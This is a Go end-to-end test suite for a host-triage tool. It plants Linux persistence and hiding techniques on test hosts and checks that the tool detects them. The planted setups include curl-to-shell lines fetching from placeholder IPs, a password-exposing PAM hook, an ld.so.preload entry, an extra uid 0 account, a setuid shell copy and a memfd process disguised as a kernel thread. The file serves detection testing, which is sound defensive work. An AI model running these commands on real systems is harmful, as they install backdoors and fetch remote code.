//go:build linux

package e2e_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/postern-ssh/postern/audit/triage"
	"github.com/postern-ssh/postern/e2e"
)

// triageRun runs postern triage on a host as an administrator would, and gives its
// page and the same as values.
func triageRun(t *testing.T, h *e2e.Host, key, expect string, args ...string) (page string, report *triage.Host) {
	t.Helper()
	binary, err := e2e.Binary()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	inventory := filepath.Join(dir, "postern.yaml")
	text := fmt.Sprintf("defaults: {user: root, key: %q}\ngroups:\n  nodes:\n    hosts: [victim]\n%shosts:\n  victim: {address: %s}\n", key, expect, h.Addr())
	if err := os.WriteFile(inventory, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	common := []string{"triage", "-i", inventory, "--known-hosts", h.KnownHosts(), "--no-agent", "--timeout", "110s"}
	out, _ := run(t, dir, binary, append(append(common, "--format", "json"), args...)...)
	var r triage.Report
	if err := json.Unmarshal([]byte(out), &r); err != nil || len(r.Hosts) != 1 {
		t.Fatalf("not a report: %v\n%s", err, out)
	}
	return out, &r.Hosts[0]
}

// storyExpect is what the administrator of the story relies on.
const storyExpect = "    expect:\n      jobs:\n        - {match: \"*/monitor-nodes*\", user: root}\n"

// TestTriageStory plants the story of the demo with a process that stands for its
// implant, and asks for one page that tells it.
func TestTriageStory(t *testing.T) {
	e2e.NeedHosts(t)
	script, err := os.ReadFile(filepath.Join("demo", "hosts", "breached.sh"))
	if err != nil {
		t.Fatal(err)
	}
	key, public := newKey(t)
	h := e2e.Start(t, e2e.Spec{Release: e2e.Bookworm, Setup: string(script) + "\n" + admit("root", public)})
	// An inert stub: sleeps, and holds a connection to a port of IRC on this very host.
	if out, errOut, code := h.Exec(`set -e
cp /usr/bin/perl '/root/. ../httpd'
cd '/root/. ..'
nohup './httpd' -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,0); bind(S,sockaddr_in(6667,INADDR_LOOPBACK)); listen(S,1); sleep 600' >/dev/null 2>&1 </dev/null &
sleep 0.5
nohup './httpd' -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,sockaddr_in(6667,INADDR_LOOPBACK)) or die; sleep 600' >/dev/null 2>&1 </dev/null &
sleep 0.5
rm '/root/. ../httpd'`); code != 0 {
		t.Fatalf("stub: %d %s %s", code, out, errOut)
	}
	_, r := triageRun(t, h, key, storyExpect)
	job := want(t, r, "job", "high", `". .."`, "/var/spool/cron/crontabs/root:2", "dormant but armed", "update.pid", "31337", "no such process", "script of /bin/sh")
	if job != nil && (len(job.Actions) == 0 || job.Actions[0].Do != triage.DoJob || job.Returns == "") {
		t.Errorf("the job has no way to end it, or does not come back: %+v", job)
	}
	want(t, r, "job", "high", "/var/spool/cron/crontabs/root:3", "neighbouring words spell it")
	want(t, r, "process", "critical", "httpd (deleted)", "a port of IRC", "127.0.0.1:6667")
	want(t, r, "monitor", "high", "monitor-nodes", "missing")
	want(t, r, "times", "medium", "of one minute, 2026-03-12T00:30:00Z", "/root/. ../update", "/var/spool/cron/crontabs/root")
	story := r.Worth + r.Verdict
	for _, d := range r.Doors {
		story += "\n" + d.What
	}
	for _, w := range []string{"the host's own word", `"root" gets in with a password alone`, `"backup-operator" gets in with a password alone`, `"root" gets in with a key`, "come back after a reboot"} {
		if !strings.Contains(story, w) {
			t.Errorf("the page does not say %q:\n%s", w, story)
		}
	}
	if len(r.Preserve) < 3 || !strings.Contains(r.Preserve[0], "do not reboot") {
		t.Errorf("what to preserve first: %q", r.Preserve)
	}
	if r.Rounds != 2 {
		t.Errorf("%d rounds, want 2", r.Rounds)
	}
	if t.Failed() {
		for i := range r.Things {
			t.Logf("%s %s %s %q", r.Things[i].Severity, r.Things[i].Kind, r.Things[i].Title, r.Things[i].Why)
		}
	}
}

// planted are the ways of coming back and of hiding that triage has to find, each with
// the kind, the least weight and words of the thing that names it.
var planted = []struct {
	name, setup string
	kind, least string
	words       []string
}{
	{"ld.so.preload", `cp /lib/x86_64-linux-gnu/libutil.so.1 /usr/lib/.libsel.so; echo /usr/lib/.libsel.so > /etc/ld.so.preload`, "preload", "high", []string{"/usr/lib/.libsel.so"}},
	{"PAM line", `printf '#!/bin/sh\nexit 0\n' > /usr/local/lib/note; chmod 755 /usr/local/lib/note; echo 'auth optional pam_exec.so quiet expose_authtok /usr/local/lib/note' >> /etc/pam.d/sshd`, "pam", "high", []string{"pam_exec.so", "hands it the password", "/etc/pam.d/sshd"}},
	{"PAM module", `cp /lib/x86_64-linux-gnu/security/pam_permit.so /lib/x86_64-linux-gnu/security/pam_unix2.so`, "pam", "high", []string{"pam_unix2.so", "no package has"}},
	{"unit drop-in", `mkdir -p /etc/systemd/system/ssh.service.d; printf '[Service]\nExecStartPost=/dev/shm/.x/run\n' > /etc/systemd/system/ssh.service.d/override.conf`, "unit", "high", []string{"ssh.service", "ExecStartPost=/dev/shm/.x/run"}},
	{"unit of no package", `printf '[Service]\nExecStart=/bin/sh -c "curl -s http://198.51.100.9/u | sh"\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/netd.service`, "unit", "high", []string{"netd.service"}},
	{"generator", `mkdir -p /etc/systemd/system-generators; printf '#!/bin/sh\nexit 0\n' > /etc/systemd/system-generators/zz; chmod 755 /etc/systemd/system-generators/zz`, "startup", "high", []string{"system-generators/zz"}},
	{"~/.ssh/rc", `install -d -m 700 -o alice -g alice /home/alice/.ssh; echo '/usr/bin/true' > /home/alice/.ssh/rc; chown alice: /home/alice/.ssh/rc`, "startup", "medium", []string{"/home/alice/.ssh/rc"}},
	{"profile.d", `echo '(curl -fsS http://198.51.100.7/x | sh) >/dev/null 2>&1 &' > /etc/profile.d/zz-lang.sh`, "startup", "high", []string{"/etc/profile.d/zz-lang.sh", "198.51.100.7"}},
	{"alias of sudo", `echo "alias sudo='/home/alice/.cache/sudo'" >> /home/alice/.bashrc`, "startup", "medium", []string{"/home/alice/.bashrc", "asks for a password"}},
	{"key with a command", `echo 'command="/dev/shm/.x/shell",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE4nBdBMvuiQzqE8wLL52XG1Ki7g6E3HuDJXe5+nSeS9 x@y' > /home/alice/.ssh/authorized_keys; chown alice: /home/alice/.ssh/authorized_keys`, "key", "medium", []string{`"alice"`, "/dev/shm/.x/shell"}},
	{"setuid copy of a shell", `cp /bin/dash /var/tmp/.d; chmod 4755 /var/tmp/.d`, "setuid", "critical", []string{"/var/tmp/.d", "byte for byte"}},
	{"replaced binary", `printf x >> /bin/su`, "package-file", "critical", []string{"/su", "util-linux", "MD5"}},
	{"at job", `mkdir -p /var/spool/cron/atjobs; printf '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd /root || {\n exit 1\n}\ncurl -s http://198.51.100.8/a | sh\n' > /var/spool/cron/atjobs/a0000102bd0c5f; chmod 700 /var/spool/cron/atjobs/a0000102bd0c5f`, "job", "low", []string{"a0000102bd0c5f"}},
	{"user timer with linger", `d=/home/alice/.config/systemd/user; mkdir -p $d /var/lib/systemd/linger; printf '[Timer]\nOnBootSec=1\n[Install]\nWantedBy=timers.target\n' > $d/up.timer; printf '[Service]\nExecStart=/home/alice/.local/up\n' > $d/up.service; chown -R alice: /home/alice/.config; : > /var/lib/systemd/linger/alice`, "unit", "medium", []string{"up.timer", "lingers"}},
	{"udev rule", `mkdir -p /etc/udev/rules.d; echo 'SUBSYSTEM=="net", RUN+="/bin/sh -c /var/tmp/.u/run"' > /etc/udev/rules.d/99-net.rules`, "startup", "high", []string{"99-net.rules", "/var/tmp/.u/run"}},
	{"motd script", `mkdir -p /etc/update-motd.d; printf '#!/bin/sh\necho aWQ= | base64 -d | sh\n' > /etc/update-motd.d/99-tips; chmod 755 /etc/update-motd.d/99-tips`, "startup", "high", []string{"99-tips", "decodes text"}},
	{"second uid 0", `echo 'sysadm:x:0:0::/root:/bin/sh' >> /etc/passwd`, "account", "critical", []string{`"sysadm"`, "uid is 0"}},
	{"system account with a key", `usermod -s /bin/bash -d /var/games games; mkdir -p /var/games/.ssh; cp /root/.ssh/authorized_keys /var/games/.ssh/; chown -R games: /var/games`, "account", "high", []string{`"games"`, "nobody logs in to"}},
	{"rc.local", `printf '#!/bin/sh\n/var/tmp/.u/run &\n' > /etc/rc.local; chmod 755 /etc/rc.local`, "startup", "medium", []string{"/etc/rc.local", "/var/tmp/.u/run"}},
	{"hook of apt", `echo 'APT::Update::Pre-Invoke {"nohup /dev/shm/.x/run &";};' > /etc/apt/apt.conf.d/99-speed`, "startup", "medium", []string{"99-speed", "/dev/shm/.x/run"}},
	{"mail that starts a program", `echo '"|/home/alice/.m/run"' > /home/alice/.forward; chown alice: /home/alice/.forward`, "startup", "low", []string{"/home/alice/.forward"}},
	{"hole in wtmp", `head -c 384 /dev/zero >> /var/log/wtmp`, "log", "high", []string{"records of zeros"}},
	{"job in cron.d", `echo '0 4 1 1 * root /dev/shm/.x/run' > /etc/cron.d/sysstat2`, "job", "high", []string{"/etc/cron.d/sysstat2:1", "/dev/shm/.x/run"}},
	{"private key", `ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_next`, "private-key", "low", []string{"/root/.ssh/id_next"}},
}

// running are planted when the host is up.
const running = `set -e
cp /bin/sleep /var/tmp/.kw; nohup /var/tmp/.kw 900 >/dev/null 2>&1 </dev/null &
nohup perl -e 'my $n="x"; my $fd=syscall(319,$n,0); open(my $o,">&=",$fd) or die; open(I,"<","/bin/sleep"); binmode I; local $/; print $o <I>; $o->flush; $^F=255; exec {"/proc/$$/fd/$fd"} "[kworker/0:1]","900"' >/dev/null 2>&1 </dev/null &
sleep 0.5
rm /var/tmp/.kw
t=$(date -d '+10 min' '+%b %e %H:%M:%S')
printf '%s host CRON[123]: (root) CMD (/opt/agent/old --beat)\n%s host CRON[125]: (root) CMD (/opt/agent/old --beat)\n' "$t" "$t" >> /var/log/syslog`

// TestTriagePlanted plants many ways to come back on one host; each is named with its
// evidence, the host is unchanged, and evidence is whole.
func TestTriagePlanted(t *testing.T) {
	e2e.NeedHosts(t)
	key, public := newKey(t)
	setup := "useradd -m -s /bin/bash alice\n" + admit("root", public) + "\n"
	for _, p := range planted {
		setup += p.setup + "\n"
	}
	h := e2e.Start(t, e2e.Spec{Release: e2e.Bookworm, Setup: setup})
	if out, errOut, code := h.Exec(running); code != 0 {
		t.Fatalf("%d %s %s", code, out, errOut)
	}
	// Debian's hourly job must not write to the log between the two looks.
	h.Run("kill -STOP $(pgrep -x cron)")
	before := upper(t, h)
	kept := filepath.Join(t.TempDir(), "kept")
	_, r := triageRun(t, h, key, "", "--evidence", kept)
	if d := cmp.Diff(before, upper(t, h)); d != "" {
		t.Errorf("the host was changed (-before +after):\n%s", d)
	}
	for _, p := range planted {
		if want(t, r, p.kind, p.least, p.words...) == nil {
			t.Errorf("%s was not found", p.name)
		}
	}
	want(t, r, "process", "high", "[kworker/0:1]", "never a file", "thread of the kernel")
	want(t, r, "process", "high", "/var/tmp/.kw", "deleted")
	want(t, r, "memory-job", "high", "/opt/agent/old --beat")
	binary, err := e2e.Binary()
	if err != nil {
		t.Fatal(err)
	}
	if out, code := run(t, t.TempDir(), binary, "verify", kept); code != 0 {
		t.Errorf("verify: %d\n%s", code, out)
	}
	manifest, err := os.ReadFile(filepath.Join(kept, "MANIFEST"))
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(manifest)) {
		if strings.Contains(line, `"path":"/root/.ssh/id_next"`) && strings.Contains(line, `"name"`) {
			t.Errorf("a private key was kept: %s", line)
		}
	}
	filepath.WalkDir(kept, func(p string, d os.DirEntry, err error) error {
		if data, err := os.ReadFile(p); err == nil && strings.Contains(string(data), "PRIVATE KEY-----") {
			t.Errorf("%s holds a private key", p)
		}
		return nil
	})
	if t.Failed() {
		for i := range r.Things {
			t.Logf("%s %s %s %q", r.Things[i].Severity, r.Things[i].Kind, r.Things[i].Title, r.Things[i].Why)
		}
		t.Logf("gaps %v", r.Gaps)
	}
}

// upper lists what a host has changed on its disk since its root was built, but for
// what any login leaves.
func upper(t *testing.T, h *e2e.Host) map[string]string {
	t.Helper()
	out := map[string]string{}
	top := h.UpperDir()
	filepath.WalkDir(top, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		name := strings.TrimPrefix(p, top)
		switch name {
		case "/var/log/wtmp", "/var/log/lastlog", "/var/log/btmp", "/var/log/auth.log", "/var/log/sshd.log":
			return nil
		}
		if info, err := d.Info(); err == nil {
			out[name] = fmt.Sprintf("%s %d %s", info.Mode(), info.Size(), info.ModTime())
		}
		return nil
	})
	return out
}

// TestTriageClean holds that clean hosts show nothing of medium or more, and prints
// what the second round costs them.
func TestTriageClean(t *testing.T) {
	e2e.NeedHosts(t)
	for _, release := range e2e.Releases {
		t.Run(string(release), func(t *testing.T) {
			t.Parallel()
			triageClean(t, e2e.Spec{Release: release})
		})
	}
	t.Run("systemd", func(t *testing.T) {
		t.Parallel()
		triageClean(t, e2e.Spec{Release: e2e.Bookworm, Init: e2e.Systemd})
	})
}

// serverPackages are forty packages that servers commonly have.
const serverPackages = "nginx apache2 mariadb-server postgresql redis-server memcached postfix dovecot-imapd bind9 unbound " +
	"fail2ban rsyslog logrotate chrony sudo curl wget git rsync tmux screen vim htop unattended-upgrades cron-apt " +
	"monitoring-plugins-basic munin-node sysstat smartmontools lm-sensors certbot php-fpm haproxy squid vsftpd samba nfs-common rpcbind ufw debsums"

// TestTriagePackages does the same on a host with forty server packages. Its layer takes
// minutes to build: .ci/full asks for it.
func TestTriagePackages(t *testing.T) {
	if os.Getenv("POSTERN_FULL") == "" {
		t.Skip("builds a layer of forty packages (POSTERN_FULL=1)")
	}
	e2e.NeedHosts(t)
	triageClean(t, e2e.Spec{Release: e2e.Bookworm, Layers: []string{serverPackages}})
}

func triageClean(t *testing.T, spec e2e.Spec) {
	key, public := newKey(t)
	spec.Setup += admit("root", public)
	h := e2e.Start(t, spec)
	cpu := func() time.Duration {
		out, _, _ := h.Exec(`cat /sys/fs/cgroup/cpu.stat 2>/dev/null | sed -n 's/^usage_usec //p'`)
		n, _ := strconv.ParseInt(strings.TrimSpace(out), 10, 64)
		return time.Duration(n) * time.Microsecond
	}
	from := cpu()
	_, r := triageRun(t, h, key, "")
	t.Logf("%s %v: %d rounds, %v of the host's CPU with login, %d things, %d gaps", spec.Release, spec.Init, r.Rounds, cpu()-from, len(r.Things), len(r.Gaps))
	if !r.Deeper || r.Error != "" {
		t.Fatalf("no second round: %q", r.Error)
	}
	for i := range r.Things {
		x := &r.Things[i]
		if triage.Level(x.Severity) >= triage.Level("medium") && !strings.Contains(x.Title, "__host_init") { // the test's own PID 1
			t.Errorf("%s %s: %s %q %v", x.Severity, x.Kind, x.Title, x.Why, x.Evidence)
		}
	}
	for _, g := range r.Gaps {
		t.Logf("gap %s: %s", g.Path, g.Reason)
	}
}

// want finds a thing by kind, least weight and words in its title, reasons and evidence.
func want(t *testing.T, r *triage.Host, kind, least string, words ...string) *triage.Thing {
	t.Helper()
next:
	for i := range r.Things {
		x := &r.Things[i]
		if x.Kind != kind || triage.Level(x.Severity) < triage.Level(least) {
			continue
		}
		text := x.Title + "\n" + strings.Join(x.Why, "\n")
		for _, e := range x.Evidence {
			text += fmt.Sprintf("\n%s:%d %s %s", e.Path, e.Line, e.Text, e.Witness)
		}
		for _, w := range words {
			if !strings.Contains(text, w) {
				continue next
			}
		}
		return x
	}
	t.Errorf("no %s of %s or more that says %q", kind, least, words)
	return nil
}
